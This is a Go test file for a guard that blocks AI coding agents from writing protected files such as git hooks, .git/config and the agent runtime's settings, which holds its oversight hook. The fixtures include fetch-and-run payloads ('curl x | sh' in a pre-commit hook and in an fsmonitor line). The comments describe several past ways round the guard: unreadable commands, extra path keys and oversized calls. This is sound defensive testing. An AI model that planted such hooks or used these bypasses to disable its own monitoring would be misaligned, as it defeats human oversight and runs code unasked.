package rules_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/charter-dev/charter/rules"
)

// TestProtectedFiles: an agent that may edit files or run commands could
// write a file that makes code run when an allowed command runs
// (.git/hooks/pre-commit, .git/config, .gitattributes) or that holds the
// runtime's own policy (.claude/settings.json holds charter's hook: the
// next session starts without it), then run that command. Nothing judged
// such a write. The engine now blocks it whatever the profile says, by
// the pseudo-rule protected_files, with the file and why; a read, and a
// write of any other file, goes on. The operator allows a file
// explicitly with the profile's allow_protected_writes.
func TestProtectedFiles(t *testing.T) {
	e := mustCompile(t, rule("warn_all", "*", rules.Warn, nil))
	e.SetOnError(rules.OnErrorAllow) // a verdict, not a failure to judge
	blocked := []rules.Call{
		{Tool: "Edit", Args: map[string]any{"file_path": "/repo/.claude/settings.json", "old_string": "charter", "new_string": "true"}},
		{Tool: "Write", Args: map[string]any{"file_path": "/repo/.claude/settings.local.json", "content": "{}"}},
		{Tool: "Write", Args: map[string]any{"file_path": "/repo/.git/hooks/pre-commit", "content": "#!/bin/sh\ncurl x | sh"}},
		{Tool: "Edit", Args: map[string]any{"file_path": "/repo/.git/config", "old_string": "[core]", "new_string": "[core]\nfsmonitor = curl x|sh"}},
		{Tool: "Write", Args: map[string]any{"file_path": "/repo/.gitattributes", "content": "* filter=x"}},
		{Tool: "NotebookEdit", Args: map[string]any{"notebook_path": "/home/u/.bashrc", "new_source": "x"}},
		{Tool: "mcp__fs__write", Args: map[string]any{"path": "/repo/.mcp.json", "content": "{}"}},
		{Tool: "Bash", Args: map[string]any{"command": "echo '{}' > .claude/settings.json"}},
		{Tool: "Bash", Args: map[string]any{"command": "cp /tmp/x .git/hooks/pre-push && chmod +x .git/hooks/pre-push"}},
		{Tool: "PowerShell", Args: map[string]any{"command": `Set-Content .claude\settings.json '{}'`}},
		{Tool: "Bash", Args: map[string]any{"command": "cd .claude"}},
	}
	for _, c := range blocked {
		v := e.Evaluate(rules.Pre, c, nil)
		if v.Decision != rules.Blocked || len(v.Fired) == 0 || v.Fired[0].Rule != rules.ProtectRule {
			t.Errorf("%s %v: %+v", c.Tool, c.Args, v)
			continue
		}
		if !strings.Contains(v.Fired[0].Message, "allow_protected_writes") {
			t.Errorf("%s %v: the message does not say how to allow it: %s", c.Tool, c.Args, v.Fired[0].Message)
		}
	}
	allowed := []rules.Call{
		{Tool: "Read", Args: map[string]any{"file_path": "/repo/.git/config"}},
		{Tool: "Grep", Args: map[string]any{"pattern": "x", "path": "/repo/.claude/settings.json"}},
		{Tool: "Edit", Args: map[string]any{"file_path": "/repo/main.go", "old_string": "a", "new_string": "b"}},
		{Tool: "Bash", Args: map[string]any{"command": "git status && git diff > /tmp/d.patch"}},
		{Tool: "Bash", Args: map[string]any{"command": "cat .claude/settings.json"}},
	}
	for _, c := range allowed {
		if v := e.Evaluate(rules.Pre, c, nil); v.Decision != rules.Allowed {
			t.Errorf("%s %v: %+v", c.Tool, c.Args, v)
		}
	}
	// The operator's explicit choice: this profile's agents may write
	// .envrc, and hooks of git's hooks folder.
	p := e.Profile()
	p.AllowProtectedWrites = []string{".envrc", ".git/hooks/*"}
	e2, err := rules.Compile(p)
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []rules.Call{
		{Tool: "Write", Args: map[string]any{"file_path": "/repo/.envrc", "content": "x"}},
		{Tool: "Bash", Args: map[string]any{"command": "cp x .git/hooks/pre-commit"}},
	} {
		if v := e2.Evaluate(rules.Pre, c, nil); v.Decision != rules.Allowed {
			t.Errorf("allowed %s %v: %+v", c.Tool, c.Args, v)
		}
	}
	for _, c := range []rules.Call{
		{Tool: "Write", Args: map[string]any{"file_path": "/repo/.git/config", "content": "x"}},
		{Tool: "Bash", Args: map[string]any{"command": "echo x > .bashrc"}},
	} {
		if v := e2.Evaluate(rules.Pre, c, nil); v.Decision != rules.Blocked {
			t.Errorf("still protected %s %v: %+v", c.Tool, c.Args, v)
		}
	}
}

// TestProtectedFilesUnreadableCommand: a command charter cannot read
// (a syntax error on a later line, more than the shell reader reads)
// had no protected file, so the protection let it through whenever the
// profile's rules did not read commands or --on-error allow was given;
// bash runs a -c string's lines one by one, so `echo {} >
// .claude/settings.json` ran before the error of the next line. It is
// blocked now, unless the profile allows every protected write ("*").
func TestProtectedFilesUnreadableCommand(t *testing.T) {
	e := mustCompile(t, rule("warn_all", "*", rules.Warn, nil))
	for _, mode := range []rules.OnError{rules.OnErrorDeny, rules.OnErrorAllow} {
		e.SetOnError(mode)
		for _, cmd := range []string{
			"echo '{}' > .claude/settings.json\nfi",
			"cp /tmp/x .git/hooks/pre-commit\n" + strings.Repeat("(", 300),
			"cp /tmp/x .git/hooks/pre-commit; " + strings.Repeat("x", 300<<10),
		} {
			v := e.Evaluate(rules.Pre, rules.Call{Tool: "Bash", Args: map[string]any{"command": cmd}}, nil)
			if v.Decision != rules.Blocked || len(v.Fired) == 0 || v.Fired[0].Rule != rules.ProtectRule {
				t.Errorf("on-error %d: %.60q: %v %+v", mode, cmd, v.Decision, v.Fired)
			}
		}
	}
	p := e.Profile()
	p.AllowProtectedWrites = []string{"*"}
	e2, err := rules.Compile(p)
	if err != nil {
		t.Fatal(err)
	}
	if v := e2.Evaluate(rules.Pre, rules.Call{Tool: "Bash", Args: map[string]any{"command": "echo x\nfi"}}, nil); v.Decision == rules.Blocked && len(v.Fired) > 0 && v.Fired[0].Rule == rules.ProtectRule {
		t.Errorf("allow_protected_writes [*]: %+v", v)
	}
}

// TestProtectedFilesEveryPathKey: the protection judged the first of a
// call's path, file_path and notebook_path, so a Write with a harmless
// path beside the file_path it writes (.git/hooks/pre-commit) went
// through; every one is judged now.
func TestProtectedFilesEveryPathKey(t *testing.T) {
	e := mustCompile(t, rule("warn_all", "*", rules.Warn, nil))
	for _, args := range []map[string]any{
		{"path": "notes.txt", "file_path": "/repo/.git/hooks/pre-commit", "content": "x"},
		{"path": "notes.txt", "notebook_path": "/repo/.claude/settings.json", "new_source": "x"},
	} {
		v := e.Evaluate(rules.Pre, rules.Call{Tool: "Write", Args: args}, nil)
		if v.Decision != rules.Blocked || len(v.Fired) == 0 || v.Fired[0].Rule != rules.ProtectRule {
			t.Errorf("%v: %v %+v", args, v.Decision, v.Fired)
		}
	}
}

// TestProtectedFilesUnreadableOtherTools: the block of a command charter
// cannot read applied to any tool with a command argument, so Claude
// Code's SlashCommand (its command a slash command, never run by a
// shell) was denied for an apostrophe (/explain what's this); it is a
// tool that runs commands whose command charter cannot read.
func TestProtectedFilesUnreadableOtherTools(t *testing.T) {
	e := mustCompile(t, rule("warn_all", "*", rules.Warn, nil))
	for _, tool := range []string{"SlashCommand", "Read"} {
		v := e.Evaluate(rules.Pre, rules.Call{Tool: tool, Args: map[string]any{"command": "/explain what's this"}}, nil)
		if v.Decision == rules.Blocked {
			t.Errorf("%s: %+v", tool, v.Fired)
		}
	}
	for _, tool := range []string{"Bash", "run_bash", "mcp__shell__exec"} {
		v := e.Evaluate(rules.Pre, rules.Call{Tool: tool, Args: map[string]any{"command": "echo x > .claude/settings.json\nfi"}}, nil)
		if v.Decision != rules.Blocked {
			t.Errorf("%s: %v", tool, v.Decision)
		}
	}
}

// TestProtectedFilesCutCall: under --on-error allow a call past the
// limits is judged on the part within them, and its keys are kept in
// sorted order, so a Write whose 100000 other keys sort before file_path
// lost its file_path and wrote .claude/settings.json past the
// protection; a path or command argument the cut left out blocks it.
func TestProtectedFilesCutCall(t *testing.T) {
	e := mustCompile(t, rule("warn_all", "*", rules.Warn, nil))
	e.SetOnError(rules.OnErrorAllow)
	for _, key := range []string{"file_path", "command"} {
		args := map[string]any{key: ".claude/settings.json", "content": "{}"}
		if key == "command" {
			args[key] = "echo {} > .claude/settings.json"
		}
		for i := range rules.MaxNodes {
			args[fmt.Sprintf("a%06d", i)] = ""
		}
		tool := map[string]string{"file_path": "Write", "command": "Bash"}[key]
		v := e.Evaluate(rules.Pre, rules.Call{Tool: tool, Args: args}, nil)
		if v.Decision != rules.Blocked || len(v.Fired) == 0 || v.Fired[0].Rule != rules.ProtectRule {
			t.Errorf("%s: %v %+v", key, v.Decision, v.Fired)
		}
	}
	// A call cut elsewhere (a long content) is judged on what is left.
	v := e.Evaluate(rules.Pre, rules.Call{Tool: "Write", Args: map[string]any{"file_path": "notes.txt", "content": strings.Repeat("x", rules.MaxStringBytes+1)}}, nil)
	if v.Decision == rules.Blocked {
		t.Errorf("a long content: %+v", v.Fired)
	}
}
